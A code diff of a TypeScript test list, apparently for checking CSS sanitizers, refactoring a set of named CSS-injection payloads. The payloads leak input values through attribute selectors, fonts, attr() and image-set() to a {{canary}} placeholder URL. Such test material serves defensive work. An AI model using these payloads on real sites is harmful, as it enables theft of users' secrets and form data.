@@ -8,7 +8,7 @@ const secret = `<input name="secret" value="s3cret"><p id="t" class="leak">abc</
 export const OWN_ATTACKS: readonly { readonly name: string; readonly payload: string }[] = [
   {
     name: 'CSS: attribute selectors that tell a value, character by character',
-    payload: `${secret}<style>${[...'abcs3']
+    payload: `${secret}<style>${Array.from('abcs3')
       .map((char) => `input[value^="${char}"]{background:url({{canary}}/is-${char})}`)
       .join(
         '',
@@ -17,7 +17,7 @@ export const OWN_ATTACKS: readonly { readonly name: string; readonly payload: st
   },
   {
     name: 'CSS: fonts that tell which characters there are',
-    payload: `${secret}<style>${[...'abc']
+    payload: `${secret}<style>${Array.from('abc')
       .map(
         (char) =>
           `@font-face{font-family:leak;src:url({{canary}}/has-${char});unicode-range:U+${char.charCodeAt(0).toString(16)}}`,
@@ -48,7 +48,9 @@ export const OWN_ATTACKS: readonly { readonly name: string; readonly payload: st
       #a{background:attr(data-u type(*))}#b{background:attr(data-u type(<image>))}#c{background:image-set(attr(data-s)1x)}#d{background:image-set(attr(data-s raw-string)1x)}#e{--x:attr(data-u type(*));background:var(--x)}#f{background:src(attr(data-s))}
       #g{background:var(--u)}#h{background:var(--i)}#i{background:image-set(var(--s)1x)}#j{background:--f()}#k{background:--g("{{canary}}/6")}#l{background:--h()}#m{background:if(style(--u):url({{canary}}/7);else:image-set("{{canary}}/8"1x))}
       #n{--q:url(;--r:{{canary}}/9);background:var(--q)var(--r)}#o{--v:"{{canary}}/10";background:url(var(--v));background:image-set(var(--none,"{{canary}}/11")1x)}#p{background:inherit(--i)}#q{background:first-valid(url({{canary}}/12))}</style>
-      ${[...'abcdefghijklmnopq'].map((id) => `<i id="${id}" data-u="url({{canary}}/attr-${id})" data-s="{{canary}}/text-${id}">${id}</i>`).join('')}`,
+      ${Array.from('abcdefghijklmnopq')
+        .map((id) => `<i id="${id}" data-u="url({{canary}}/attr-${id})" data-s="{{canary}}/text-${id}">${id}</i>`)
+        .join('')}`,
   },
   {
     name: 'CSS: escapes that tokenizers may read in two ways',
